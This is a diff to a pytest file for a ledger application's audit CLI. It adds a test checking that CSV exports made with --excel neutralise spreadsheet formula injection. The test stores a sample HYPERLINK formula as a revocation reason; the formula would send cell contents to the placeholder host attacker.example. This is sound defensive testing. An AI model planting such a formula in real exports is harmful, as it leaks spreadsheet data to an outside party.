@@ -5,12 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+from collections.abc import Callable
 from datetime import datetime
 from pathlib import Path
 
 import pytest
 
-from ledger.demo import REVOCATION_REASON
+from ledger.application import Ledger
+from ledger.demo import REVOCATION_REASON, award_id, award_reference
 from tests.cli.conftest import Invoke, one_line_error
 
 
@@ -77,6 +79,33 @@ def test_csv_export_for_excel_starts_with_a_byte_order_mark(seeded: Invoke, tmp_
     assert all(r["decision_reference"] for r in rows)
 
 
+def test_excel_export_keeps_formula_like_text_as_text(
+    seeded: Invoke, open_ledger: Callable[[], Ledger], tmp_path: Path
+) -> None:
+    hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
+    ledger = open_ledger()
+    ledger.revoke_award(
+        award_id("CETB", award_reference(4)), reason=hostile, actor="provider:CETB:x"
+    )
+    plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
+
+    assert seeded("audit", "-f", "csv", "-o", str(plain), "--event", "AwardRevoked").exit_code == 0
+    assert (
+        seeded(
+            "audit", "-f", "csv", "-o", str(excel), "--excel", "--event", "AwardRevoked"
+        ).exit_code
+        == 0
+    )
+
+    def reasons(path: Path) -> list[str]:
+        text = path.read_bytes().decode("utf-8-sig")
+        return [row["reason"] for row in csv.DictReader(io.StringIO(text, newline=""))]
+
+    assert reasons(plain) == [REVOCATION_REASON, hostile]
+    assert reasons(excel) == [REVOCATION_REASON, "'" + hostile]
+    assert excel.read_bytes().startswith(b"\xef\xbb\xbf")
+
+
 def test_jsonl_export_to_standard_output_is_one_object_per_line(seeded: Invoke) -> None:
     result = seeded("audit", "--format", "jsonl", "--actor", "authority:demo-seed", "--limit", "5")
 
@@ -103,7 +132,7 @@ def test_filters_by_award_and_time(seeded: Invoke) -> None:
         (["--since", "last tuesday"], "--since must be an ISO 8601 date or date-time"),
         (["--award", "12345"], "--award must be an id like"),
         (["--since", "2026-02-01", "--until", "2026-01-01"], "--since must be before --until"),
-        (["--bom"], "--bom only applies to --format csv"),
+        (["--excel"], "--excel only applies to --format csv"),
         (["--output", "x.csv"], "--output needs --format jsonl or csv"),
         (["-f", "csv", "-o", "/no/such/dir/audit.csv"], "No such file or directory"),
     ],
